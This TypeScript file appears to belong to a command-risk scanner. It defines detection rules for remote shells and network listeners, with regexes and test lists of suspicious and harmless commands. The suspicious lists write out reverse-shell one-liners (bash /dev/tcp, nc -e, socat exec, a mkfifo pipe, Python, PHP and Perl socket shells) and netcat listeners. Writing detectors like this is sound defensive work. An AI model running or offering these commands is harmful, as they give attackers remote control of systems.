import { codeOf, isShell, isSocket, netcats, runsWhatItReads } from './execution.ts';
import { hasOption, optionValue, sourcesOf, type Rule } from './rule.ts';

const codeOpensSocket = /socket|fsockopen|\/inet\/tcp|net\.connect|TCPSocket|IO::Socket|Socket\.tcp|pfsockopen/i;
const codeStartsShell =
  /dup2|pty\.spawn|subprocess|child_process|\b(system|exec[lv]*p?e?|popen|spawn|passthru|shell_exec|proc_open|os\.execute)\b|\/bin\/(ba|z|da|k)?sh|`|\|&\s*getline|>&/;

export const remote: readonly Rule[] = [
  {
    code: 'REMOTE_SHELL',
    tactic: 'COMMAND_AND_CONTROL',
    points: 50,
    find(program, reading) {
      const socketFile = program.redirects.find(({ target }) => /^\/dev\/(tcp|udp)\//.test(target));
      if (socketFile !== undefined && (isShell(program) || program.name === 'exec' || socketFile.operator === '<>'))
        return 'connects a shell to the network';
      if (netcats.test(program.name) && (hasOption(program, 'e', '--exec', '--sh-exec') || optionValue(program, '-c') !== null))
        return `hands a program to the network with ${program.name}`;
      if (program.name === 'socat' && program.args.some((word) => /^(exec|system|shell):/i.test(word)))
        return 'hands a program to the network with socat';
      const code = codeOf(program);
      if (codeOpensSocket.test(code) && codeStartsShell.test(code)) return `connects a shell to the network in ${program.name}`;
      if (isSocket(program) && sourcesOf(program, reading).some((source) => isShell(source) && runsWhatItReads(source)))
        return 'sends a shell over the network';
      return null;
    },
    suspicious: [
      'bash -i >& /dev/tcp/192.0.2.1/443 0>&1',
      'exec 5<>/dev/tcp/192.0.2.1/443',
      'nc -e /bin/sh h 1',
      'ncat h 1 --exec /bin/bash',
      'socat tcp:h:1 exec:/bin/sh',
      'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 1 > /tmp/f',
      'python3 -c "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)"',
      'php -r \'$s=fsockopen("h",1);exec("sh <&3");\'',
      'sh -i < p 2>&1 | openssl s_client -quiet -connect h:1 > p',
      'perl -e \'use Socket;exec("/bin/sh -i");\'',
    ],
    harmless: [
      'nc -zv h 22',
      'nc h 80',
      'echo x > /dev/tcp/h/80',
      'bash -i',
      'python3 -c "import socket; print(socket.gethostname())"',
      'openssl s_client -connect h:443',
      'socat - tcp:h:80',
      'bash script.sh | tee log',
    ],
  },
  {
    code: 'NETWORK_LISTENER',
    tactic: 'COMMAND_AND_CONTROL',
    points: 30,
    find: (program) =>
      netcats.test(program.name) && hasOption(program, 'l', '--listen') ? `waits for connections with ${program.name}` : null,
    suspicious: ['nc -l 4444', 'nc -lvnp 4444', 'ncat --listen 4444', 'busybox nc -l -p 1', 'sudo netcat -u -l 1'],
    harmless: ['nc -z h 1', 'ncat h 1', 'ls -l nc', 'nc -h'],
  },
];
